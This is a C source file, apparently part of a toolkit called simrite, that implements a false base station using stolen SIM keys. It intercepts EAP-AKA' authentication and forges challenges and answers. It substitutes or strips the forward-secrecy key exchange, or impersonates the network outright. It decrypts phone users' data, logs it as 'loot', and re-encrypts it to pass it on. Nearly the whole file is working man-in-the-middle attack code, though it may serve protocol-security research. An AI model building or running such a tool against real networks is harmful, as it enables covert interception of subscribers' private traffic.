/* thief_station - a false base station between phones and network, with keys that were stolen earlier.
 *
 *     simrite-thief-station CAPTURED OUT   < the frames (simrite radio between)
 *
 * CAPTURED holds keys.jsonl, another thief's loot, and perhaps plan.txt: one
 * word, "exchange" (or no file), "strip" or "alone". Frames come on standard input,
 * a socket, and go back on it: a byte for the side (0 phone, 1 network), one
 * for the kind, two for the link, and what went over the air. That is all it
 * gets. With K and OPc it knows K_aut, so it can change a challenge and an
 * answer and put a right AT_MAC on it:
 *
 *   exchange  both sides speak forward secrecy, each with the thief's key
 *   strip     the phone is offered none; the network gets the thief's key
 *
 * and in both cases user data is deciphered with one key and enciphered with
 * the other. Or it needs no network at all:
 *
 *   alone     the thief makes vectors and is the network; a card that has seen
 *             later numbers tells them to whoever has K, in AUTS
 *
 * Without the key of a subscriber everything passes as it is. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "auth/milenage.h"
#include "crypto/wipe.h"
#include "eap/eap_keys.h"
#include "eap/ecdhe.h"
#include "radio/nr_keys.h"
#include "theft/loot.h"
#include "theft/stolen.h"

enum {
	HEADER = 4,
	LINKS = 1024,
	PHONE = 0,
	NETWORK = 1,
};

/* What stands on one radio link. */
struct link {
	uint16_t rnti;
	char imsi[16], identity[RECORD_IDENTITY];
	char network[64]; /* its name, once its challenge was understood */
	const struct stolen_key *key;
	struct eap_keys basic;        /* as without forward secrecy */
	struct ecdhe to_phone;        /* the key the phone was given */
	struct eap_list offered;      /* the network's AT_KDF_FS, or the thief's */
	uint8_t heard[EAP_PUB_ECDHE]; /* the network's AT_PUB_ECDHE */
	size_t heard_length;
	uint8_t kup[2][16]; /* of the phone's session and of the network's */
	bool open, counted;
	uint8_t identifier; /* alone: of the challenge that is out; its vector */
	struct aka_vector vector;
};

enum plan {
	EXCHANGE,
	STRIP,
	ALONE,
};
static const char *const plans[] = {"exchange", "strip", "alone"};

struct station {
	enum plan plan;
	struct stolen stolen;
	struct link links[LINKS];
	size_t count;
	struct loot loot;
	unsigned changed; /* challenges */
};

static struct link *link_of(struct station *s, uint16_t rnti)
{
	size_t i;

	for (i = 0; i < s->count; i++)
		if (s->links[i].rnti == rnti)
			return &s->links[i];
	if (s->count == LINKS)
		return NULL;
	s->links[s->count].rnti = rnti;
	return &s->links[s->count++];
}

static struct span identity_of(const struct link *link)
{
	return (struct span){(const uint8_t *)link->identity, strlen(link->identity)};
}

static void take_identity(struct station *s, struct link *link, struct span said)
{
	if (said.length >= sizeof(link->identity) || !record_imsi(link->imsi, said))
		return;
	memcpy(link->identity, said.at, said.length);
	link->identity[said.length] = 0;
	link->key = stolen_of(&s->stolen, link->imsi);
}

/* The keys that follow from K, if they are this subscriber's: the challenge's MAC says so. */
static bool know(struct link *link, const struct eap_packet *p, const uint8_t *in, size_t length)
{
	uint8_t ck[16], ik[16];

	link->network[0] = 0;
	if (!link->key || !p->kdf_input.length || p->kdf_input.length >= sizeof(link->network) ||
	    !break_in_cipher_keys(ck, ik, p->rand.at, link->key) ||
	    eap_keys_derive(&link->basic, ck, ik, p->kdf_input, p->autn.at, identity_of(link)) < 0 ||
	    eap_packet_check(p, in, length, link->basic.k_aut) != GRANTED)
		return false;
	memcpy(link->network, p->kdf_input.at, p->kdf_input.length);
	link->network[p->kdf_input.length] = 0;
	return true;
}

/* The challenge again, with the thief's key in it, or without any. */
static int change_challenge(struct station *s, struct link *link, struct eap_writer *w,
			    const struct eap_packet *p)
{
	const bool strip = s->plan == STRIP;
	size_t i;

	link->offered = p->kdf_fs;
	link->heard_length = p->pub_ecdhe.length;
	memcpy(link->heard, p->pub_ecdhe.at, p->pub_ecdhe.length);
	ecdhe_wipe(&link->to_phone);
	if (!strip &&
	    ecdhe_generate(&link->to_phone, (enum ecdhe_group)p->kdf_fs.values[0], &ecdhe_kernel) < 0)
		return -1;
	s->changed++;
	eap_write_start(w, EAP_REQUEST, p->identifier, EAP_AKA_CHALLENGE);
	eap_write(w, AT_RAND, p->rand.at, 16);
	eap_write(w, AT_AUTN, p->autn.at, 16);
	for (i = 0; i < p->kdf.count; i++)
		eap_write_number(w, AT_KDF, p->kdf.values[i]);
	eap_write(w, AT_KDF_INPUT, p->kdf_input.at, p->kdf_input.length);
	for (i = 0; !strip && i < p->kdf_fs.count; i++)
		eap_write_number(w, AT_KDF_FS, p->kdf_fs.values[i]);
	if (!strip)
		eap_write(w, AT_PUB_ECDHE, link->to_phone.public_key,
			  ecdhe_public_length(link->to_phone.group));
	if (p->checkcode.at)
		eap_write(w, AT_CHECKCODE, p->checkcode.at, p->checkcode.length);
	eap_write_mac(w);
	return eap_write_finish(w, link->basic.k_aut);
}

/* KUPenc of one side's session: by its exchange, or by K alone (`pub` empty). */
static bool side_key(uint8_t kup[static 16], const struct link *link, const struct ecdhe *own,
		     struct span pub)
{
	struct eap_keys keys = link->basic;
	uint8_t shared[ECDHE_SHARED];
	struct nr_keys nr;
	bool done = true;

	if (pub.length)
		done = ecdhe_shared(shared, own, pub, &ecdhe_kernel) == OK &&
		       eap_keys_forward(&keys, shared, identity_of(link)) == OK;
	done = done && nr_keys_derive(&nr, keys.emsk, link->network, link->imsi) == OK;
	if (done)
		memcpy(kup, nr.kup_enc, 16);
	wipe(shared, sizeof(shared));
	wipe(&keys, sizeof(keys));
	return done;
}

/* The phone's answer again: its RES, and to a network that offered forward secrecy the thief's key. */
static int change_answer(struct link *link, struct eap_writer *w, const struct eap_packet *p)
{
	const struct span heard = {link->heard, link->heard_length};
	struct ecdhe own = {.group = ECDHE_NONE};

	if (link->offered.count &&
	    ecdhe_generate(&own, (enum ecdhe_group)link->offered.values[0], &ecdhe_kernel) < 0)
		return -1;
	link->open = side_key(link->kup[PHONE], link, &link->to_phone, p->pub_ecdhe) &&
		     side_key(link->kup[NETWORK], link, &own, heard);
	eap_write_start(w, EAP_RESPONSE, p->identifier, EAP_AKA_CHALLENGE);
	eap_write(w, AT_RES, p->res.at, p->res.length);
	if (own.group != ECDHE_NONE)
		eap_write(w, AT_PUB_ECDHE, own.public_key, ecdhe_public_length(own.group));
	if (p->checkcode.at)
		eap_write(w, AT_CHECKCODE, p->checkcode.at, p->checkcode.length);
	eap_write_mac(w);
	ecdhe_wipe(&own);
	ecdhe_wipe(&link->to_phone);
	return eap_write_finish(w, link->basic.k_aut);
}

/* ---- alone ---- */

/* The network that this identity belongs to, by its realm (TS 23.003 19.2). */
static bool name_network(struct link *link)
{
	static const char wlan[] = "@wlan.";
	const char *realm = strstr(link->identity, wlan);
	int n = realm ? snprintf(link->network, sizeof(link->network), "5G:%s", realm + strlen(wlan)) : -1;

	return n > 0 && (size_t)n < sizeof(link->network);
}

/* A challenge of the thief's own, for this SQN; both groups are offered. */
static int own_challenge(struct link *link, struct eap_writer *w, const uint8_t sqn[static 6])
{
	static const uint8_t amf[2] = {0x80, 0};
	const struct span name = {(const uint8_t *)link->network, strlen(link->network)};
	struct aka_vector *v = &link->vector;
	uint8_t rand[16];
	size_t i;

	if (ecdhe_kernel.fill(ecdhe_kernel.context, rand, sizeof(rand)) < 0 ||
	    milenage_vector(v, link->key->k, link->key->opc, rand, sqn, amf) < 0 ||
	    eap_keys_derive(&link->basic, v->ck, v->ik, name, v->autn, identity_of(link)) < 0 ||
	    ecdhe_generate(&link->to_phone, (enum ecdhe_group)link->offered.values[0], &ecdhe_kernel) < 0)
		return -1;
	eap_write_start(w, EAP_REQUEST, ++link->identifier, EAP_AKA_CHALLENGE);
	eap_write(w, AT_RAND, v->rand, 16);
	eap_write(w, AT_AUTN, v->autn, 16);
	eap_write_number(w, AT_KDF, 1);
	eap_write(w, AT_KDF_INPUT, name.at, name.length);
	for (i = 0; i < link->offered.count; i++)
		eap_write_number(w, AT_KDF_FS, link->offered.values[i]);
	eap_write(w, AT_PUB_ECDHE, link->to_phone.public_key, ecdhe_public_length(link->to_phone.group));
	eap_write_mac(w);
	return eap_write_finish(w, link->basic.k_aut);
}

/* SEQ one on, IND as it is (TS 33.102 Annex C.3). */
static void step(uint8_t sqn[static 6])
{
	unsigned carry = 32;
	int i;

	for (i = 5; i >= 0; i--) {
		carry += sqn[i];
		sqn[i] = (uint8_t)carry;
		carry >>= 8;
	}
}

/* The phone asks for the other group: RFC 9678 6.2. */
static int own_other_group(struct link *link, struct eap_writer *w, unsigned group,
			   const uint8_t sqn[static 6])
{
	if (link->offered.count != 2 || link->offered.values[1] != group)
		return -1;
	link->offered = (struct eap_list){{(uint16_t)group, link->offered.values[0], (uint16_t)group}, 3};
	return own_challenge(link, w, sqn);
}

/* The last word, when the phone has answered: its session is the thief's. */
static int own_success(struct link *link, struct eap_writer *w, const struct eap_packet *p)
{
	link->open = side_key(link->kup[PHONE], link, &link->to_phone, p->pub_ecdhe);
	memcpy(link->kup[NETWORK], link->kup[PHONE], sizeof(link->kup[PHONE])); /* there is no other */
	ecdhe_wipe(&link->to_phone);
	eap_write_other(w, EAP_SUCCESS, p->identifier, 0, (struct span){NULL, 0});
	return eap_write_finish(w, NULL);
}

/* What a network says to the phone; 0: this goes on to the real one. */
static int be_network(struct station *s, struct link *link, struct eap_writer *w, const struct eap_packet *p)
{
	uint8_t sqn[6] = {0};

	if (!link->key || p->code != EAP_RESPONSE)
		return 0;
	if (p->type == EAP_IDENTITY && name_network(link)) {
		s->changed++;
		link->identifier = p->identifier;
		link->offered = (struct eap_list){{ECDHE_X25519, ECDHE_P256}, 2};
		return own_challenge(link, w, sqn);
	}
	if (p->auts.at &&
	    milenage_resync(sqn, link->key->k, link->key->opc, link->vector.rand, p->auts.at) == OK) {
		step(sqn);
		return own_challenge(link, w, sqn);
	}
	if (p->subtype == EAP_AKA_CHALLENGE && p->res.at)
		return own_success(link, w, p);
	if (p->subtype == EAP_AKA_CHALLENGE && p->kdf_fs.count == 1)
		return own_other_group(link, w, p->kdf_fs.values[0], sqn);
	return 0;
}

/* ---- frames ---- */

/* An EAP packet on its way: its new length, in place; *back: it goes back to where it came from. */
static size_t pass_eap(struct station *s, struct link *link, uint8_t *bytes, size_t length, bool *back)
{
	struct eap_writer w;
	struct eap_packet p;
	int n = 0;

	if (length > EAP_MAX || eap_packet_read(&p, bytes, length) < 0)
		return length;
	if (p.code == EAP_RESPONSE && p.type == EAP_IDENTITY)
		take_identity(s, link, p.data);
	if (p.code == EAP_RESPONSE && p.identity.at)
		take_identity(s, link, p.identity);
	if (s->plan == ALONE) {
		n = be_network(s, link, &w, &p);
		*back = n > 0;
	} else if (p.code == EAP_REQUEST && p.subtype == EAP_AKA_CHALLENGE && p.rand.at && p.autn.at) {
		link->open = false;
		link->offered.count = link->heard_length = 0;
		if (know(link, &p, bytes, length) && p.kdf_fs.count && p.pub_ecdhe.at &&
		    p.pub_ecdhe.length <= sizeof(link->heard))
			n = change_challenge(s, link, &w, &p);
	} else if (p.code == EAP_RESPONSE && p.subtype == EAP_AKA_CHALLENGE && p.res.at && link->network[0]) {
		n = change_answer(link, &w, &p);
	}
	if (n <= 0)
		return length;
	memcpy(bytes, w.bytes, (size_t)n);
	return (size_t)n;
}

/* A packet of user data: read, and enciphered for the other side. */
static void pass_pdcp(struct station *s, struct link *link, uint8_t *bytes, size_t length, unsigned from)
{
	struct pdu pdu = {.direction = from == PHONE ? UPLINK : DOWNLINK};

	if (!link->open || length < AIR_PDCP_HEADER || length - AIR_PDCP_HEADER > sizeof(pdu.data))
		return;
	pdu.count = (bytes[0] & 0x0FU) << 8 | bytes[1];
	pdu.length = length - AIR_PDCP_HEADER;
	memcpy(pdu.data, bytes + AIR_PDCP_HEADER, pdu.length);
	if (eea2(pdu.data, pdu.length, link->kup[from], pdu.count, AIR_DRB - 1, pdu.direction) < 0)
		return;
	loot_pdu(&s->loot, link->rnti, link->imsi, &pdu);
	s->loot.session_count += !link->counted;
	link->counted = true;
	if (eea2(pdu.data, pdu.length, link->kup[1 - from], pdu.count, AIR_DRB - 1, pdu.direction) == OK)
		memcpy(bytes + AIR_PDCP_HEADER, pdu.data, pdu.length);
}

/* Until the radio is switched off. */
static int stand_between(struct station *s, struct fault *fault)
{
	uint8_t message[HEADER + AIR_MAX];
	struct link *link;
	ssize_t n;
	size_t length;
	bool back;

	while ((n = read(STDIN_FILENO, message, sizeof(message))) > HEADER) {
		link = link_of(s, (uint16_t)(message[2] << 8 | message[3]));
		length = (size_t)n - HEADER;
		back = false;
		if (link && message[1] == AIR_EAP)
			length = pass_eap(s, link, message + HEADER, length, &back);
		else if (link && message[1] == AIR_PDCP)
			pass_pdcp(s, link, message + HEADER, length, message[0] == PHONE ? PHONE : NETWORK);
		if (!back)
			message[0] = message[0] == PHONE ? NETWORK : PHONE;
		if (write(STDIN_FILENO, message, HEADER + length) < 0)
			break;
	}
	return n < 0 ? fault_set(fault, FAULT_SYSTEM, "run it with simrite radio between",
				 "standard input is no radio")
		     : 0;
}

/* The plan, if there is one. */
static int take_plan(enum plan *plan, const char *captured, struct fault *fault)
{
	char path[512], word[32] = "exchange";
	FILE *file;
	size_t i;

	(void)snprintf(path, sizeof(path), "%s/plan.txt", captured);
	file = fopen(path, "re");
	if (file) {
		if (fscanf(file, "%31s", word) != 1)
			word[0] = 0;
		fclose(file);
	}
	for (i = 0; i < sizeof(plans) / sizeof(plans[0]); i++)
		if (!strcmp(word, plans[i])) {
			*plan = (enum plan)i;
			return 0;
		}
	return fault_set(fault, FAULT_INPUT, NULL, "plan.txt says neither exchange nor strip nor alone");
}

int main(int argc, char **argv)
{
	static struct station s;
	struct fault fault = {0};
	int e = -1;

	if (argc != 3) {
		fputs("usage: simrite-thief-station CAPTURED OUT\n", stderr);
		return FAULT_USAGE;
	}
	if (take_plan(&s.plan, argv[1], &fault) == 0 && stolen_read(&s.stolen, argv[1], &fault) == 0 &&
	    (e = loot_go_on(&s.loot, argv[2], &fault)) == 0) {
		e = stand_between(&s, &fault);
		if (loot_close(&s.loot, &fault) < 0)
			e = -1;
	}
	if (e < 0)
		fprintf(stderr, "simrite-thief-station: %s\n", fault.text);
	else
		printf("{\"type\":\"result\",\"schema\":1,\"thief\":\"station\",\"plan\":\"%s\",\"links\":%zu,"
		       "\"challenges_changed\":%u,\"keys\":%zu,\"sessions\":%u}\n",
		       plans[s.plan], s.count, s.changed, s.stolen.count, s.loot.session_count);
	stolen_free(&s.stolen);
	wipe(&s, sizeof(s));
	return e < 0 ? (int)fault.code : 0;
}
